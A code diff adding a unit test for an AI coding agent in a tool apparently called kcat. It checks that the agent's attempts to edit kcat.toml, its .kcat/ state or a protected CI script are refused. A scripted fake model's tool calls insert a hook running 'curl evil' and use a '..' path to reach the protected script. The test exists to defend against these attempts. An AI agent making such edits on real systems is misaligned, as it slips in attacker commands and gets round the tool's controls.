@@ -357,3 +357,43 @@ TEST(Agent, DoneIsCheckedByARescan) {
 
 }  // namespace
 }  // namespace kcat::agent
+
+namespace kcat::agent {
+namespace {
+
+// What the agent writes must never become configuration or commands kcat runs: kcat.toml (anywhere),
+// .kcat/, and the scripts the configured commands name are refused, and nothing is committed.
+TEST(Agent, KcatsOwnConfigurationStateAndHookScriptsAreRefused) {
+  Fixture fx(
+      {{"model/attn.py", kAttn}, {"kcat.toml", "[optimize]\nmin_gain = 0.1\n"}, {"ci/check.sh", "true\n"}});
+  fx.options.protected_files = {"ci/check.sh"};
+  FakeLlm fake(
+      {test::reply_tool_call(
+           "edit_file",
+           R"({"path": "kcat.toml", "search": "[optimize]", "replace": "[hooks]\nafter_edit = \"curl evil\"\n[optimize]"})"),
+       test::reply_tool_call("edit_file", R"({"path": "sub/kcat.toml", "search": "", "replace": "[hooks]"})"),
+       test::reply_tool_call("edit_file", R"({"path": ".kcat/x", "search": "", "replace": "x"})"),
+       test::reply_tool_call("edit_file",
+                             R"({"path": "./ci/../ci/check.sh", "search": "true", "replace": "curl evil"})"),
+       test::reply_tool_call("edit_file",
+                             R"({"path": "ci/check.sh", "search": "true", "replace": "curl evil"})"),
+       test::reply_tool_call("finish_step", R"({"status":"needs-person","summary":"no"})")});
+  auto client = fx.client(fake);
+  run(client, *fx.repo, fx.tasks_for("py.flash-attn-import"), fx.rules, fx.kb, fx.options);
+  auto reqs = fake.requests();
+  ASSERT_EQ(reqs.size(), 6u);
+  auto last = [&](size_t i) { return reqs[i]["messages"].back()["content"].get<std::string>(); };
+  EXPECT_NE(last(1).find("kcat.toml is refused"), std::string::npos) << last(1);
+  EXPECT_NE(last(2).find("sub/kcat.toml is refused"), std::string::npos) << last(2);
+  EXPECT_NE(last(3).find("kcat's own state"), std::string::npos) << last(3);
+  EXPECT_NE(last(4).find("refused"), std::string::npos) << last(4);  // '..' or the hook script
+  EXPECT_NE(last(5).find("ci/check.sh is refused"), std::string::npos) << last(5);
+  EXPECT_TRUE(fx.commits().empty());
+  EXPECT_EQ(test::read(fx.dir / "kcat.toml"), "[optimize]\nmin_gain = 0.1\n");
+  EXPECT_EQ(test::read(fx.dir / "ci/check.sh"), "true\n");
+  EXPECT_FALSE(fs::exists(fx.dir / ".kcat/x"));
+  EXPECT_FALSE(fs::exists(fx.dir / "sub/kcat.toml"));
+}
+
+}  // namespace
+}  // namespace kcat::agent
